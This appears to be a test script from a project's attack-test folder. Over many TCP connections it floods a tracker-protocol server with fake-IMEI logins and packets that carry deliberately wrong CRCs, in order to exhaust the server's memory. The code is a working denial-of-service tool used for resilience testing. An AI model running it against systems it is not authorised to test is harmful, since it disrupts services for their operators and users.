"""Fill the server's memory: whole packets with a wrong CRC, as fast as they go.

python tests/attacks/wrong_crc.py HOST PORT SECONDS [CONNECTIONS]
"""

import socket
import sys
import threading
import time

HOST, PORT, SECONDS = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
CONNECTIONS = int(sys.argv[4]) if len(sys.argv) > 4 else 1
END = time.monotonic() + SECONDS
DATA = b"\x08\x01" + bytes(38) + b"\x01"
PACKETS = (bytes(4) + len(DATA).to_bytes(4) + DATA + b"\xff\xff\xff\xff") * 1_000
sent, connected = [0] * CONNECTIONS, [0] * CONNECTIONS


def attack(number: int) -> None:
    imei = b"\x00\x0f35630704%07d" % number
    while time.monotonic() < END:
        try:
            with socket.create_connection((HOST, PORT), timeout=1) as server:
                connected[number] += 1
                server.sendall(imei)
                while time.monotonic() < END:
                    sent[number] += server.send(PACKETS[sent[number] % len(PACKETS) :])
        except OSError:
            time.sleep(0.01)  # closed, or not read for a second: come again
        sent[number] -= sent[number] % len(PACKETS)


threads = [threading.Thread(target=attack, args=(number,)) for number in range(CONNECTIONS)]
[thread.start() for thread in threads]
[thread.join() for thread in threads]
print(f"{sum(sent)} bytes of packets with a wrong CRC, {sum(connected)} connections")
